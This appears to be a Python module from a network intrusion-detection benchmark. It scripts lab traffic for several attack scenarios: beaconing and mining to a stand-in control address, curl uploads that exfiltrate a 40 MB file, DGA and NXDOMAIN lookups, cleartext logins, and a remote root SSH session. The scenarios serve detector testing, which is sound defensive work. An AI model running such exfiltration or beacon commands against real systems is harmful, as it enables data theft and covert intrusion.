"""What a machine does that has been taken over, or whose user should know better."""
from __future__ import annotations

from benchmarks.attacks.attack import Attack
from benchmarks.attacks.place import ATTACKER, OFFICE, RESOLVER, SERVER, VICTIM, Place
from benchmarks.attacks.servers import PASSWORD, USER, dovecot, nginx, resolver, sshd, vsftpd

CONTROL = "203.0.113.66"


def beacon(place: Place) -> None:
    """A call every 10 s, give or take a fifth, for three minutes."""
    place.start("server", place.script("responders", "listener", CONTROL, 8443), tcp=8443)
    place.begins()
    place.fails("office", [*place.script("callers", "beacon", CONTROL, 8443, 10, 0.2, 180)], 200)


def mining(place: Place) -> None:
    """Stratum in clear on port 3333."""
    place.start("server", place.script("responders", "pool", CONTROL, 3333), tcp=3333)
    place.begins()
    place.fails("office", [*place.script("callers", "miner", CONTROL, 3333, 60)], 80)


def exfiltration(place: Place) -> None:
    """Half a minute as ever, small letters out; then 40 MB at two megabytes a second."""
    place.serve(nginx, "server")
    large = place.folder / "records.bin"
    large.write_bytes(bytes(range(256)) * 160_000)
    place.fails("office", ["sh", "-c", f"for k in $(seq 6); do head -c 3000 {large} | curl -s -o /dev/null -T - http://{SERVER}/in/note$k; sleep 5; done"], 60)
    place.begins()
    place.fails("office", ["curl", "-s", "-o", "/dev/null", "--limit-rate", "2M", "-T", large, f"http://{SERVER}/in/records"], 60)


def generated(place: Place) -> None:
    """Names of an algorithm, ten a second; none exists."""
    place.serve(resolver, "server")
    place.begins()
    place.fails("office", [*place.script("callers", "generated", RESOLVER, 400, 10)], 80)


def storm(place: Place) -> None:
    """dig asks for hundreds of names that aren't there, of a plain kind: a broken program rather than an algorithm."""
    place.serve(resolver, "server")
    asked = place.folder / "asked"
    asked.write_text("".join(f"printer{one}.office.example.com A\n" for one in range(3000)))
    place.begins()
    place.fails("office", ["sh", "-c", f"split -n l/4 {asked} {asked}. && ls {asked}.* | xargs -P 4 -n 1 dig @{RESOLVER} +noedns +short -f"], 60)


def secrets(place: Place) -> None:
    """Passwords in clear: FTP, HTTP basic, POP3, IMAP."""
    for server in (vsftpd, nginx, dovecot):
        place.serve(server, "server")
    place.begins()
    for url in ("ftp://{0}/", "http://{0}/private/", "pop3://{0}/1", "imap://{0}/INBOX"):
        place.fails("office", ["curl", "-s", "-m", "10", "-o", "/dev/null", "-u", f"{USER}:{PASSWORD}", url.format(SERVER)], 20)


def administered(place: Place) -> None:
    """A shell from outside at a host nobody outside ever had one at, after a while of pages only."""
    place.serve(nginx, "victim")
    options = place.serve(sshd, "victim")
    place.fails("attacker", ["sh", "-c", f"for k in $(seq 10); do curl -s -o /dev/null http://{VICTIM}/; sleep 1; done"], 30)
    place.begins()
    place.fails("attacker", ["ssh", *options, f"root@{VICTIM}", "uname -a; ls -l /; sleep 5; ls /usr/bin"], 30)


ATTACKS = (
    Attack("beacon", ("beacon",), OFFICE, CONTROL, 240, beacon, "script"),
    Attack("mining", ("mining",), OFFICE, CONTROL, 90, mining, "script"),
    Attack("exfiltration", ("exfiltration",), OFFICE, SERVER, 120, exfiltration, "curl -T"),
    Attack("dga", ("dga", "nxdomain_storm"), OFFICE, "", 90, generated, "script"),
    Attack("nxdomain-storm", ("nxdomain_storm", "dga"), OFFICE, "", 90, storm, "dig -f"),
    Attack("secrets", ("cleartext_credentials",), OFFICE, SERVER, 60, secrets, "curl"),
    Attack("new-admin", ("new_admin_pair",), ATTACKER, VICTIM, 60, administered, "ssh", settings="[detect.new_admin_pair]\nlearn = 5\n"),
)
